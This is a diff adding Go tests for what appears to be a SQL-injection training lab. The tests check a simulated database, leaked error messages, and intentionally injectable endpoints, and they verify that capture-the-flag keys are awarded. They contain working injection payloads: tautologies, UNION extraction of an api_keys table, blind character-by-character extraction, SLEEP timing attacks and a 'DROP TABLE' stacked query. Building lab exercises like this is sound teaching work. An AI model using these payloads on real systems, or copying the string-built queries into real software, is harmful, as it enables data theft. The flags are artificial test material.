@@ -0,0 +1,224 @@
+package endpoints
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+const testVaultKey = "FLAG{sql_vault}"
+
+func testSQLDB() *sqlDB {
+	return newDomain().SQLDatabase(testVaultKey)
+}
+
+func TestSQLQuery(t *testing.T) {
+	tests := []struct {
+		query string
+		args  []interface{}
+		want  [][]sqlValue
+	}{
+		{"SELECT id, username FROM users WHERE id = 2", nil, [][]sqlValue{{int64(2), "jane"}}},
+		{"select username from users where role = 'admin'", nil, [][]sqlValue{{"admin"}}},
+		{"SELECT username FROM users WHERE id > 1 AND NOT role = 'admin' ORDER BY username DESC", nil, [][]sqlValue{{"user"}, {"jane"}}},
+		{"SELECT id FROM orders WHERE user_id IN (2, 3) ORDER BY 1", nil, [][]sqlValue{{int64(1003)}, {int64(1004)}}},
+		{"SELECT id FROM orders ORDER BY total DESC LIMIT 1 OFFSET 1", nil, [][]sqlValue{{int64(1001)}}},
+		{"SELECT COUNT(*) FROM users", nil, [][]sqlValue{{int64(4)}}},
+		{"SELECT DISTINCT status FROM orders WHERE user_id = 1 OR user_id = 3 ORDER BY status", nil, [][]sqlValue{{"processing"}, {"shipped"}}},
+		{"SELECT username FROM users WHERE username = ?", []interface{}{"john"}, [][]sqlValue{{"john"}}},
+		{"SELECT username FROM users WHERE username = ?", []interface{}{"john' OR '1'='1"}, nil},
+		{"SELECT UPPER(SUBSTR(username, 1, 2)), LENGTH(email), ASCII('a'), CHAR(70, 76) FROM users WHERE id = 1", nil, [][]sqlValue{{"JO", int64(20), int64(97), "FL"}}},
+		{"SELECT 'a' || 'b', CONCAT('x', NULL), COALESCE(NULL, 3), IF(1 = 1, 'y', 'n')", nil, [][]sqlValue{{"ab", nil, int64(3), "y"}}},
+		{"SELECT (SELECT username FROM users WHERE id = 3)", nil, [][]sqlValue{{"admin"}}},
+		{"SELECT 1 /* comment */ + 2 # tail", nil, [][]sqlValue{{int64(3)}}},
+		{"SELECT id FROM users WHERE id = 1 UNION SELECT id FROM orders WHERE id = 1001", nil, [][]sqlValue{{int64(1)}, {int64(1001)}}},
+		{"SELECT 1 UNION SELECT 1", nil, [][]sqlValue{{int64(1)}}},
+		{"SELECT 1 UNION ALL SELECT 1", nil, [][]sqlValue{{int64(1)}, {int64(1)}}},
+		{"SELECT table_name FROM information_schema.tables", nil, [][]sqlValue{{"users"}, {"orders"}, {"api_keys"}}},
+		{"SELECT column_name FROM information_schema.columns WHERE table_name = 'api_keys' ORDER BY ordinal_position", nil,
+			[][]sqlValue{{"id"}, {"service"}, {"api_key"}, {"owner"}}},
+		{"SELECT api_key FROM api_keys WHERE service = 'flag-vault'", nil, [][]sqlValue{{testVaultKey}}},
+	}
+	for _, tt := range tests {
+		res, err := testSQLDB().Query(context.Background(), tt.query, tt.args...)
+		if err != nil {
+			t.Errorf("%s: %v", tt.query, err)
+			continue
+		}
+		if len(res.Rows) != len(tt.want) || len(tt.want) > 0 && !reflect.DeepEqual(res.Rows, tt.want) {
+			t.Errorf("%s = %v, want %v", tt.query, res.Rows, tt.want)
+		}
+	}
+}
+
+// Ошибки базы данных уходят клиенту: по ним учащийся подбирает число столбцов и имена таблиц
+func TestSQLErrors(t *testing.T) {
+	tests := []struct {
+		query string
+		want  string
+	}{
+		{"SELECT id, item, total, status FROM orders ORDER BY 5", "1st ORDER BY term out of range - should be between 1 and 4"},
+		{"SELECT id, item FROM orders UNION SELECT 1", "do not have the same number of result columns"},
+		{"SELECT * FROM secrets", "no such table: secrets"},
+		{"SELECT secret FROM users", "no such column: secret"},
+		{"SELECT * FROM users WHERE name = 'x''", "unrecognized token"},
+		{"SELECT * FROM", "incomplete input"},
+		{"SELECT * FROM 1", `near "1": syntax error`},
+		{"SELECT * FROM users WHERE id =", "incomplete input"},
+		{"SELECT * FROM users WHERE id = 1 id", `near "id": syntax error`},
+		{"SELECT 1; DROP TABLE users", errSQLStacked.Error()},
+		{"SELECT NOPE(1)", "no such function: NOPE"},
+		{"SELECT (SELECT id, username FROM users)", "sub-select returns 2 columns - expected 1"},
+		{"SELECT username FROM users WHERE id = ?", "0 values for 1 parameters"},
+	}
+	for _, tt := range tests {
+		_, err := testSQLDB().Query(context.Background(), tt.query)
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: error %v, want %q", tt.query, err, tt.want)
+		}
+	}
+}
+
+func TestSQLLikeMatch(t *testing.T) {
+	tests := []struct {
+		pattern, s string
+		want       bool
+	}{
+		{"%", "", true},
+		{"%doe%", "John Doe", true},
+		{"j_hn", "JOHN", true},
+		{"j_hn", "jon", false},
+		{"%@company.com", "admin@company.com", true},
+		{"%@company.com", "admin@company.org", false},
+		{"a%b%c", "axxbyyc", true},
+		{"a%b%c", "axxbyy", false},
+		{"%a%a%a%a%a%a%a%a%a%a%a%b", strings.Repeat("a", 5000), false},
+	}
+	for _, tt := range tests {
+		start := time.Now()
+		if got := sqlLikeMatch([]rune(strings.ToLower(tt.pattern)), []rune(strings.ToLower(tt.s))); got != tt.want {
+			t.Errorf("%q LIKE %q = %v, want %v", tt.s, tt.pattern, got, tt.want)
+		}
+		if elapsed := time.Since(start); elapsed > time.Second {
+			t.Errorf("%q LIKE %q took %v", sqlSnippet(tt.s), tt.pattern, elapsed)
+		}
+	}
+}
+
+func TestSQLCanceled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if _, err := testSQLDB().Query(ctx, "SELECT * FROM users"); !errors.Is(err, context.Canceled) {
+		t.Errorf("error %v, want %v", err, context.Canceled)
+	}
+}
+
+// Запросы эндпоинтов a05_1, a05_12, a05_13 и a05_14 с подсказками из каталога
+func TestSQLCatalogPayloads(t *testing.T) {
+	search := func(q string) string {
+		return fmt.Sprintf("SELECT * FROM users WHERE name LIKE '%%%s%%' OR email LIKE '%%%s%%'", q, q)
+	}
+	orders := func(status string) string {
+		return fmt.Sprintf("SELECT id, item, total, status FROM orders WHERE user_id = %s AND status = '%s'", labUser.ID, status)
+	}
+	exists := func(username string) string {
+		return fmt.Sprintf("SELECT id FROM users WHERE username = '%s'", username)
+	}
+	track := func(id string) string {
+		return fmt.Sprintf("SELECT status FROM orders WHERE id = '%s'", id)
+	}
+	const char6 = "ASCII(SUBSTR((SELECT api_key FROM api_keys WHERE service='flag-vault'), 6, 1))"
+
+	tests := []struct {
+		name  string
+		query string
+		rows  int
+		cell  sqlValue // Значение во второй строке ответа, если задано
+	}{
+		{"a05_1 search", search("john"), 1, nil},
+		{"a05_1 or", search("' OR '1'='1"), 4, nil},
+		{"a05_1 union", search("zzz' UNION SELECT id, service, api_key, owner, 1, 2 FROM api_keys-- "), 3, nil},
+		{"a05_12 column count", orders("x' UNION SELECT 1, 2, 3, 4-- "), 1, nil},
+		{"a05_12 union", orders("shipped' UNION SELECT id, service, api_key, owner FROM api_keys-- "), 4, nil},
+		{"a05_12 vault", orders("x' UNION SELECT id, service, api_key, owner FROM api_keys WHERE service = 'sendgrid' UNION SELECT 9, service, api_key, owner FROM api_keys WHERE service = 'flag-vault'-- "), 2, testVaultKey},
+		{"a05_13 true", exists("admin' AND 1=1-- "), 1, nil},
+		{"a05_13 false", exists("admin' AND 1=2-- "), 0, nil},
+		{"a05_13 char true", exists("admin' AND " + char6 + " > 96-- "), 1, nil},
+		{"a05_13 char exact", exists(fmt.Sprintf("admin' AND %s = %d-- ", char6, testVaultKey[5])), 1, nil},
+		{"a05_13 char false", exists("admin' AND " + char6 + " > 127-- "), 0, nil},
+		{"a05_14 no sleep", track("1001' AND 1=2 AND SLEEP(2)-- "), 0, nil},
+	}
+	for _, tt := range tests {
+		res, err := testSQLDB().Query(context.Background(), tt.query)
+		if err != nil {
+			t.Errorf("%s: %s: %v", tt.name, tt.query, err)
+			continue
+		}
+		if len(res.Rows) != tt.rows {
+			t.Errorf("%s: %d rows, want %d: %v", tt.name, len(res.Rows), tt.rows, res.Rows)
+			continue
+		}
+		if tt.cell != nil && res.Rows[1][2] != tt.cell {
+			t.Errorf("%s: got %v, want %v", tt.name, res.Rows[1][2], tt.cell)
+		}
+	}
+
+	// SLEEP выполняется, только если условия перед ним истинны
+	for _, tt := range []struct {
+		query string
+		sleep bool
+	}{
+		{track("1001' AND SLEEP(2)-- "), true},
+		{track("1001' AND " + char6 + " > 96 AND SLEEP(1)-- "), true},
+		{track("1001' AND " + char6 + " > 127 AND SLEEP(1)-- "), false},
+	} {
+		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+		_, err := testSQLDB().Query(ctx, tt.query)
+		cancel()
+		if slept := errors.Is(err, context.DeadlineExceeded); slept != tt.sleep {
+			t.Errorf("%s: slept %v, want %v (error %v)", tt.query, slept, tt.sleep, err)
+		}
+	}
+}
+
+// Флаг, выданный эндпоинтом a05_1, принимается проверкой задания при любой
+// успешной инъекции, а честный поиск ее не проходит
+func TestSQLSearchEvidence(t *testing.T) {
+	challenges, err := loadCatalog(catalogFS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	check := challenges["a05_1"].Check
+	mux := http.NewServeMux()
+	mux.HandleFunc("/api/v1/users/search", apiV1UsersSearchSQL)
+	h := journalMiddleware(mux)
+
+	for _, tt := range []struct {
+		q    string
+		want bool
+	}{
+		{"john", false},
+		{"' OR '1'='1", true},
+		{"zzz' UNION SELECT id, service, api_key, owner, 1, 2 FROM api_keys-- ", true},
+	} {
+		learner := fmt.Sprintf("%032x", len(tt.q))
+		r := httptest.NewRequest("GET", "/api/v1/users/search?q="+url.QueryEscape(tt.q), nil)
+		r.AddCookie(&http.Cookie{Name: learnerCookieName, Value: learner})
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, r)
+
+		flag := strings.Contains(rec.Body.String(), challengeFlag(learner, "a05_1"))
+		evidence := check.MatchJournal(journal.Entries(learner))
+		if flag != tt.want || evidence != tt.want {
+			t.Errorf("%q: flag %v, evidence %v, want %v", tt.q, flag, evidence, tt.want)
+		}
+		domains.Forget(learner)
+	}
+}